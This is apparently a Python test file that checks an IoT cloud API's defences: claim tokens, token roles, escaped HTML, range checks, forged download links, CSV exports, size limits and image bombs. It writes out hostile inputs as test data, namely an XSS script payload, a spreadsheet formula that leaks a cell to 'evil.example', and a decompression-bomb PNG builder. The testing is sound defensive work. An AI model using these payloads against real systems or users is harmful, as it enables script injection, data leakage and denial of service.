"""The cloud's HTTP side under attack, on SQLite and PostgreSQL: claim tokens, API tokens' roles, hostile text
in HTML fragments, numbers out of range, spreadsheet formulas in the registry export, forged download links."""

from __future__ import annotations

from typing import Any

import pytest
from fastapi.testclient import TestClient

from cloud.alarms.lifecycle import raise_alarm
from cloud.settings import Settings
from protocol.envelope import new_id
from tests.cloud.conftest import MakeCloud, register

ADMIN_TOKEN, OPERATOR_TOKEN = "tok-admin-000000000001", "tok-operator-0000000001"
XSS = "<script>alert('owned')</script><img src=x onerror=alert(1)>"


def _claim(api: TestClient, kind: str) -> str:
    r = api.post("/api/sites/riverside/claims", json={"kind": kind})
    assert r.status_code == 201, r.text
    return str(r.json()["token"])


def test_a_claim_never_takes_another_kind_of_device_nor_revives_a_revoked_one(make_cloud: MakeCloud) -> None:
    _svc, api = make_cloud()
    register(api, "riverside")
    first = api.post("/provision", json={"claim": _claim(api, "gate"), "kind": "gate", "device_id": "gate-01"})
    assert first.status_code == 200, first.text
    other = api.post("/provision", json={"claim": _claim(api, "manhole"), "kind": "manhole", "device_id": "gate-01"})
    assert other.status_code == 403 and "is a gate, not a manhole" in other.json()["error"]
    replaced = api.post("/provision", json={"claim": _claim(api, "gate"), "kind": "gate", "device_id": "gate-01"})
    assert replaced.status_code == 200  # a broken board replaced by one of its kind keeps its identity
    assert api.post("/api/devices/gate-01/revoke").status_code == 200
    revived = api.post("/provision", json={"claim": _claim(api, "gate"), "kind": "gate", "device_id": "gate-01"})
    assert revived.status_code == 403 and "revoked" in revived.json()["error"]
    assert api.get("/api/devices/gate-01").json()["status"] == "revoked"
    assert api.post("/api/devices/gate-01/reinstate").status_code == 200  # an admin, audited
    again = api.post("/provision", json={"claim": _claim(api, "gate"), "kind": "gate", "device_id": "gate-01"})
    assert again.status_code == 200
    assert "device.reinstate" in [e["action"] for e in api.get("/api/audit").json()["items"]]


def test_api_tokens_carry_a_role(make_cloud: MakeCloud) -> None:
    _svc, api = make_cloud(api_tokens=[f"admin:{ADMIN_TOKEN}", OPERATOR_TOKEN])
    admin = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
    operator = {"Authorization": f"Bearer {OPERATOR_TOKEN}"}
    user = {"username": "ops-2", "password": "correct horse battery", "role": "operator"}
    assert api.get("/api/devices", headers=operator).status_code == 200
    assert api.post("/api/users", json=user, headers=operator).status_code == 403  # a bare token is an operator
    assert api.post("/api/users", json=user, headers=admin).status_code == 201
    assert api.get("/api/devices", headers={"Authorization": "Bearer admin"}).status_code == 401


def test_api_tokens_setting_reads_a_comma_separated_list(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CE_API_TOKENS", f"{OPERATOR_TOKEN}, admin:{ADMIN_TOKEN}")
    assert Settings(_env_file=None).api_tokens == [OPERATOR_TOKEN, f"admin:{ADMIN_TOKEN}"]  # type: ignore[call-arg]
    monkeypatch.setenv("CE_API_TOKENS", "short")
    with pytest.raises(ValueError, match="at least 16 characters"):
        Settings(_env_file=None)  # type: ignore[call-arg]


def test_an_htmx_error_row_shows_a_hostile_name_as_text(make_cloud: MakeCloud) -> None:
    svc, api = make_cloud()
    register(api, "riverside", "gate-01")
    with svc.engine.begin() as conn:
        alarm = raise_alarm(
            conn, device="gate-01", key="k", code="gas", severity="critical", message="gas", details={},
            at=1, msg_id=new_id(), by="device",
        )  # fmt: skip
    acked = api.post(f"/api/alarms/{alarm}/ack", json={"by": XSS})  # a machine names who acked
    assert acked.status_code == 200, acked.text
    svc.auth.create_user("op", "correct horse battery", "operator")
    browser = TestClient(api.app)
    me = browser.post("/auth/login", json={"username": "op", "password": "correct horse battery"})
    csrf = me.json()["csrf"]
    row = browser.post(f"/console/alarms/{alarm}/ack", headers={"HX-Request": "true", "X-CSRF-Token": csrf})
    assert row.status_code == 200 and "was acknowledged by" in row.text
    assert "<script>" not in row.text and "<img" not in row.text
    assert "&lt;script&gt;" in row.text


def test_numbers_out_of_range_are_the_clients_error(make_cloud: MakeCloud) -> None:
    _svc, api = make_cloud()
    register(api, "riverside", "gate-01")
    for r in (
        api.get("/api/alarms", params={"offset": 2**63}),
        api.get(f"/api/alarms/{2**63}/history"),
        api.post(f"/api/alarms/{2**63}/ack", json={}),
        api.get("/api/devices/gate-01/telemetry", params={"metric": "t", "since": 2**63}),
        api.get("/api/devices/gate-01/telemetry", params={"metric": "t", "bucket_s": "1e308"}),
        api.get("/api/devices/gate-01/telemetry", params={"metric": "t", "bucket_s": "inf"}),
        api.post("/api/departments", json={"id": "d1", "name": "D", "sla_hours": {"urgent": 1e300}}),
    ):
        assert 400 <= r.status_code < 500, (r.request.url, r.status_code, r.text)


def test_a_forged_download_link_is_refused_not_an_error(make_cloud: MakeCloud) -> None:
    _svc, api = make_cloud()
    r = api.get("/updates/gateway-0.1.0/download", params={"device": "gate-01", "exp": 2**40, "sig": "é" * 10})
    assert r.status_code == 403


def test_the_registry_export_cannot_carry_a_spreadsheet_formula(make_cloud: MakeCloud) -> None:
    _svc, api = make_cloud()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    csv = "id,kind,subtype,department_id,grid_cell_id,lat,lon,device_id,install_date,notes\n"
    csv += f'mc-1,manhole_cover,sewage,,,-31.5,121.0,,,"{formula.replace(chr(34), chr(34) * 2)}"\n'
    csv += "mc-2,manhole_cover,sewage,,,,,,,@SUM(1+1)\n"
    imported = api.post("/api/assets/import", content=csv, headers={"Content-Type": "text/csv"})
    assert imported.status_code == 200
    warned = {w["line"]: w["reason"] for w in imported.json()["warnings"]}  # the importer hears of it, too
    assert set(warned) == {2, 3} and warned[3].startswith("notes: starts with '@'")
    exported = api.get("/api/assets.csv").text
    assert "'=HYPERLINK" in exported and "'@SUM" in exported and ",-31.5," in exported  # numbers stay numbers
    assert "\n=" not in exported and ",=" not in exported and ",@" not in exported
    # the export imports back to the same text, and without a warning: its cells are already neutralised
    back = api.post("/api/assets/import", content=exported, headers={"Content-Type": "text/csv"})
    assert back.status_code == 200 and back.json()["warnings"] == []
    assert api.get("/api/assets/mc-1").json()["notes"] == formula


def test_a_registry_row_keeps_its_line_breaks_and_a_half_location_is_refused(make_cloud: MakeCloud) -> None:
    _svc, api = make_cloud()
    csv = "id,kind,subtype,department_id,grid_cell_id,lat,lon,device_id,install_date,notes\n"
    csv += 'mc-1,manhole_cover,sewage,,,,,,,"first line\nsecond line"\n'
    csv += "mc-2,manhole_cover,sewage,,,31.2,,,,\n"
    r = api.post("/api/assets/import", content=csv, headers={"Content-Type": "text/csv"}).json()
    assert r["imported"] == 1 and r["errors"] == [
        {"line": 4, "reason": "a location needs both lat and lon (or neither)"}
    ]
    assert api.get("/api/assets/mc-1").json()["notes"] == "first line\nsecond line"


def test_bodies_are_limited_before_they_are_read_and_pixel_bombs_refused(make_cloud: MakeCloud) -> None:
    import io

    from PIL import Image

    _svc, api = make_cloud()
    register(api, "riverside")
    big = api.post(
        "/api/sites", content=b"{" + b" " * (2 * 1024 * 1024) + b"}", headers={"Content-Type": "application/json"}
    )
    assert big.status_code == 413 and "larger than 1 MiB" in big.json()["error"]

    def chunks() -> Any:
        for _ in range(20):
            yield b"x" * (1024 * 1024)

    streamed = api.post("/api/residents/res-1/faces", content=chunks())  # no Content-Length: counted as it comes
    assert streamed.status_code == 413
    assert (
        api.post("/api/sites/riverside/residents", json={"id": "res-1", "unit": "1203", "consent": True}).status_code
        == 201
    )
    buf = io.BytesIO()
    Image.new("1", (9000, 9000)).save(buf, "PNG")  # 81 megapixels in a few kilobytes
    bomb = api.post("/api/residents/res-1/faces", content=buf.getvalue())
    assert bomb.status_code == 422 and "megapixels" in bomb.json()["error"], bomb.text
    wo = api.post("/api/work-orders", json={"title": "t"}).json()
    photo = api.post(f"/api/work-orders/{wo['id']}/photos", params={"stage": "before"}, content=buf.getvalue())
    assert photo.status_code == 422 and "megapixels" in photo.json()["error"], photo.text


def test_metrics_and_docs_can_need_a_login(make_cloud: MakeCloud) -> None:
    _svc, api = make_cloud(ops_need_login=True)
    stranger = TestClient(api.app)
    for path in ("/metrics", "/docs", "/openapi.json"):
        assert stranger.get(path).status_code == 401, path
        assert api.get(path).status_code == 200, path  # the admin token
    assert stranger.get("/healthz").status_code == 200
    headers = api.get("/api/devices").headers
    assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff"


def _png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims ``width``×``height`` pixels in a few dozen bytes (a decompression bomb's header)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def test_hostile_uploads_and_commands_are_refused_not_errors(make_cloud: MakeCloud) -> None:
    _svc, api = make_cloud()
    register(api, "riverside", "gate-01")
    wo = api.post("/api/work-orders", json={"title": "t"}).json()
    bomb = api.post(
        f"/api/work-orders/{wo['id']}/photos", params={"stage": "before"}, content=_png_header_only(20000, 20000)
    )
    assert bomb.status_code == 422 and "megapixels" in bomb.json()["error"], bomb.text
    csv = "id,kind,subtype,department_id,grid_cell_id,lat,lon,device_id,install_date,notes\n"
    csv += f'mc-1,manhole_cover,sewage,,,,,,,"{"x" * 200_000}"\nmc-2,manhole_cover,sewage,,,,,,,fine\n'
    r = api.post("/api/assets/import", content=csv, headers={"Content-Type": "text/csv"})
    assert r.status_code == 200 and "unreadable row" in r.json()["errors"][0]["reason"], r.text
    hand_made = api.post("/api/devices/gate-01/commands", json={"name": "set-credentials", "args": {"password": "x"}})
    assert hand_made.status_code == 422 and "rotate-credentials" in hand_made.json()["error"]
    stranger = TestClient(api.app)
    assert stranger.post("/api/updates", content=b"x" * (2 * 1024 * 1024)).status_code == 413  # before who-are-you
    assert api.post("/api/updatesx", content=b"x" * (2 * 1024 * 1024)).status_code == 413


def test_a_token_with_an_unknown_role_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CE_API_TOKENS", f"Admin:{ADMIN_TOKEN}")
    with pytest.raises(ValueError, match="role is one of admin, operator"):
        Settings(_env_file=None)  # type: ignore[call-arg]


def test_a_device_cannot_size_the_parking_page_and_tiny_buckets_are_no_error(make_cloud: MakeCloud) -> None:
    import time

    from cloud.console.shapes import bay_grid

    t0 = time.perf_counter()
    grid = bay_grid(
        [{"bay": "0-999999999-999999999", "ok": True, "kind": "store"}, {"bay": "1-3-2", "ok": True, "kind": "store"}]
    )
    assert time.perf_counter() - t0 < 1.0  # a hostile bay id is ignored, not drawn (it was 10^18 cells)
    assert grid["seen"] == 1 and len(grid["floors"]) == 4 and grid["occupied"] == 1
    _svc, api = make_cloud()
    register(api, "riverside", "gate-01")
    r = api.get("/api/devices/gate-01/telemetry", params={"metric": "m", "bucket_s": 1e-9})
    assert r.status_code == 200 and r.json()["points"] == []
